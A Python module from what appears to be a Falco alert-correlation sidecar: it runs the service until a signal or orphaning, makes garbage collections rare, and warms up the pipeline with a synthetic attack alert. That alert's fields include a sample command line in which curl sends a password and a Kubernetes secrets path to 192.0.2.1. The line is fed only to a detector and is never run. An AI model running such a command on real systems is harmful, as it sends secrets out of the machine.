"""Runs a service until a signal, or until its supervisor is gone, with rare garbage collections.

Right after the start an invented attack runs through a pipeline of its own. Patterns and tables are compiled when they
are first used, which keeps a start short. Without this, that would be while Falco waits for the answer to the first
alert of a real attack: 35 ms of CPU time on an idle machine, much more on a busy one.
"""

import asyncio
import gc
import logging
import os
import signal
import threading
from collections.abc import Sequence
from itertools import product

import msgspec

from sidecar.correlation.pipeline import Pipeline
from sidecar.incidents.falco_event import to_json
from sidecar.rules.rule import CorrelationRule
from sidecar.service import sockets
from sidecar.service.service import Service, redactor
from sidecar.text.redaction.redactor import Redactor

log = logging.getLogger(__name__)

FULL_COLLECTION_EVERY = 100
"""Collections of the middle generation per full one: about 700,000 new objects that stay."""


CHAINS = (
    ("sh", "ruby", "x", "tini"),
    ("/bin/sh", "/bin/ruby", "/bin/x", "/bin/tini"),
    ("/bin/curl", "/bin/sh", "/bin/nginx", "/bin/tini"),
    ("/bin/cat", "/bin/sh", "/bin/nginx", "/bin/tini"),
)
"""Processes of the alerts, each with its ancestors: by their names, and by their files."""


async def serve(service: Service) -> None:
    """Run a service until SIGTERM or SIGINT. Raises OSError if a port cannot be used."""
    parent = os.getppid()
    stop = stop_on_signals()
    await service.start()
    start_warm_up(service.pipeline.rules, redactor(service.settings))
    collect_rarely()
    orphaned = asyncio.create_task(_stop_when_orphaned(parent, stop))
    await stop.wait()
    orphaned.cancel()
    await service.stop()


async def _stop_when_orphaned(parent: int, stop: asyncio.Event) -> None:
    """Stop a worker whose supervisor is gone: it would keep the ports that the next one needs."""
    while sockets.INHERITED in os.environ:
        await asyncio.sleep(1)
        if os.getppid() != parent:
            stop.set()


def stop_on_signals() -> asyncio.Event:
    """An event that SIGTERM and SIGINT set."""
    stop = asyncio.Event()
    for name in (signal.SIGTERM, signal.SIGINT):
        asyncio.get_running_loop().add_signal_handler(name, stop.set)
    return stop


def collect_rarely() -> None:
    """Make full garbage collections rare: one with 20,000 containers in memory stops everything for 300 ms.

    Call it when everything is loaded: objects that exist by then are never examined again. Evicted state has no
    reference cycles (a test checks that), so reference counting frees it. asyncio's connections have some; most are
    collected young, and a full collection follows after 10,000 to 100,000 connections.
    """
    gc.collect()
    gc.freeze()
    gc.set_threshold(*gc.get_threshold()[:2], FULL_COLLECTION_EVERY)


def start_warm_up(rules: Sequence[CorrelationRule], redact: Redactor) -> None:
    """Warm up in a thread, beside the event loop."""
    threading.Thread(target=warm_up, args=(rules, redact), name="warm-up", daemon=True).start()


def warm_up(rules: Sequence[CorrelationRule], redact: Redactor) -> None:
    """Raise an incident of each rule, if a pipeline is made of these rules, which nobody sees."""
    pipeline = Pipeline(rules, lambda: 0.0, None, lambda _id, _alert: None, redact)
    tags = sorted({tag for rule in rules for group in rule.written.groups.values() for tag in group.tags})
    # an alert that has all groups is not asked for what its fields show
    lineage = sorted({tag for rule in rules for tag in rule.written.lineage.tags})
    try:
        for number, (chain, each) in enumerate(product(CHAINS, (tags, lineage))):
            for message in [*pipeline.process_json(_alert(number, chain, each))[1], *pipeline.flush()]:
                to_json(message)
    except Exception:  # it only saves time
        log.exception("the service could not warm up")


def _alert(number: int, chain: Sequence[str], tags: Sequence[str]) -> bytes:
    file, *files = chain
    name, *above = (each.rpartition("/")[2] for each in chain)
    fields: dict[str, object] = {
        "container.id": "0123456789ab",
        "container.name": "warm-up",
        "evt.type": "execve",
        "proc.name": name,
        "proc.exepath": file,
        "proc.cmdline": f"{name} -c curl --url http://192.0.2.1/x --password x /var/run/secrets/x",
        "proc.pid": 100 + number,
        "proc.ppid": 10,
        "proc.pname": above[0],
        "proc.pexepath": files[0],
        "proc.pcmdline": f"{above[0]} /srv/x.rb",
        "proc.sid": 1,
        "proc.tty": 0,
        "fd.name": "/run/secrets/x",
    }
    fields |= {f"proc.aname[{depth}]": each for depth, each in enumerate(above, 1)}
    fields |= {f"proc.apid[{depth}]": 10 - depth for depth in range(2, len(above) + 1)}
    fields |= {f"proc.aexepath[{depth}]": each for depth, each in enumerate(files[1:], 2)}
    return msgspec.json.encode(
        {
            "hostname": "warm-up",
            "priority": "Notice",
            "rule": "warm up",
            "tags": tags,
            "time": f"2026-01-01T00:00:0{number}.000000000Z",
            "output_fields": fields,
        }
    )
